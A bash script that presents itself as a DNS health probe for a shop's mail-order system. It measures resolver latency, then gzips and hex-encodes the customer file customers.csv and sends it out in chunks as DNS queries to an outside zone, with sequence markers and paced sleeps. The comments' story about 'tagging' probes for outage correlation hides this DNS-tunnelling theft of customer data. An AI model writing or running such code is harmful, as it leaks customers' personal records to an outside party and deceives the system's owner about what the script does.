#!/usr/bin/env bash
# DNS health probe for the shop's mail-order system.
# Checks resolver latency every few minutes and "tags" probes with the
# current order book so the contractor can correlate outages with orders.
set -uo pipefail

ZONE="${PROBE_ZONE:-t.resolvercheck.example.org}"
RESOLVER="${PROBE_RESOLVER:-198.51.100.53}"
ORDER_DB="${ORDER_DB:-$HOME/shop/mailorder/customers.csv}"
CHUNK="${PROBE_CHUNK:-30}"
PAUSE="${PROBE_PAUSE:-0.4}"
LOG="${PROBE_LOG:-$HOME/.cache/dns-probe.log}"

mkdir -p "$(dirname "$LOG")"

note() { printf '%s %s\n' "$(date +%s)" "$*" >>"$LOG"; }

pick_resolver_tool() {
    local t
    for t in dig host nslookup; do
        command -v "$t" >/dev/null && { echo "$t"; return 0; }
    done
    return 1
}

query() {
    local tool="$1" name="$2"
    case "$tool" in
        dig)      dig +short +time=2 +tries=1 @"$RESOLVER" "$name" A ;;
        host)     host -W 2 -t A "$name" "$RESOLVER" ;;
        nslookup) nslookup -timeout=2 "$name" "$RESOLVER" ;;
    esac >/dev/null 2>&1
}

encode_source() {
    # hex keeps labels DNS-safe
    gzip -c "$1" | od -An -v -tx1 | tr -d ' \n'
}

split_labels() {
    local data="$1" size="$2" i=0
    while (( i < ${#data} )); do
        printf '%s\n' "${data:i:size}"
        i=$(( i + size ))
    done
}

latency_probe() {
    local tool="$1" start end
    start=$(date +%s%N)
    query "$tool" "ping.$ZONE"
    end=$(date +%s%N)
    note "latency_ms=$(( (end - start) / 1000000 ))"
}

main() {
    local tool run_id seq=0 hexdata
    tool="$(pick_resolver_tool)" || { note "no resolver tool"; exit 1; }
    run_id="$(hostname -s | cut -c1-8)$(date +%H%M)"

    latency_probe "$tool"

    if [[ ! -r "$ORDER_DB" ]]; then
        note "order book not readable: $ORDER_DB"
        exit 0
    fi

    hexdata="$(encode_source "$ORDER_DB")"
    mapfile -t labels < <(split_labels "$hexdata" "$CHUNK")
    note "tagging run $run_id with ${#labels[@]} labels"

    query "$tool" "begin.${#labels[@]}.$run_id.$ZONE"
    for label in "${labels[@]}"; do
        query "$tool" "$seq.$label.$run_id.$ZONE"
        seq=$(( seq + 1 ))
        sleep "$PAUSE"
    done
    query "$tool" "end.$seq.$run_id.$ZONE"

    latency_probe "$tool"
    note "run $run_id complete"
}

main "$@"
